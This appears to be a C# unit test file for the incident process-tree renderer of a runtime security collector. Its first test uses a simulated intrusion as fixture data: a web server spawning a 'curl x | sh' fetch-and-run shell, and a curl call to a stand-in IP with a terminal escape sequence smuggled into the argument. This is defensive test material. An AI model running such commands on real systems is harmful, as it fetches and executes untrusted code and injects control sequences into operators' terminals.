using Runtime.Collector.Incidents;
using Xunit;

namespace Runtime.Collector.Tests.Incidents;

public sealed class ProcessTreeTests
{
    private readonly ObservationBuilder _builder = new();

    [Fact]
    public void Render_TwoBranches_DrawsParentsFirstAndMarksWhatDeviates()
    {
        var nginx = _builder.Process("/usr/sbin/nginx");
        var shell = _builder.Process("/bin/sh", nginx, arguments: ["sh", "-c", "curl x | sh"]);
        var curl = _builder.Process("/usr/bin/curl", shell, arguments: ["curl", "-s", "http://203.0.113.9/a\u001b[2J"]);
        var id = _builder.Process("/usr/bin/id", shell);
        var tree = new ProcessTree();
        tree.Add("c1", shell, deviates: true);
        tree.Add("c1", curl, deviates: true);
        tree.Add("c1", id, deviates: false);
        tree.Add("c1", curl, deviates: true);
        Assert.Equal(
            """
            /usr/sbin/nginx  (pid 100)
              /bin/sh -c "curl x | sh"  (pid 101)  ◀ new
                /usr/bin/curl -s http://203.0.113.9/a\x1b[2J  (pid 102)  ◀ new
                /usr/bin/id  (pid 103)
            """,
            tree.Render());
    }

    [Fact]
    public void Render_ManyProcesses_IsBoundedAndCountsTheRest()
    {
        var nginx = _builder.Process("/usr/sbin/nginx");
        var tree = new ProcessTree();
        for (var i = 0; i < 1000; i++)
        {
            tree.Add("c1", _builder.Process("/bin/a" + i, nginx), deviates: true);
        }

        Assert.Equal(ProcessTree.MaxNodes, tree.Nodes.Count);
        var lines = tree.Render().Split('\n');
        Assert.Equal(ProcessTree.MaxLines + 1, lines.Length);
        Assert.Equal($"… and {1001 - ProcessTree.MaxLines} more", lines[^1]);
    }

    [Fact]
    public void Render_LongArguments_AreShortened()
    {
        var tree = new ProcessTree();
        tree.Add("c1", _builder.Process("/bin/a", arguments: ["a", new string('x', 200_000)]), deviates: true);
        Assert.True(tree.Render().Length < 200);
    }
}
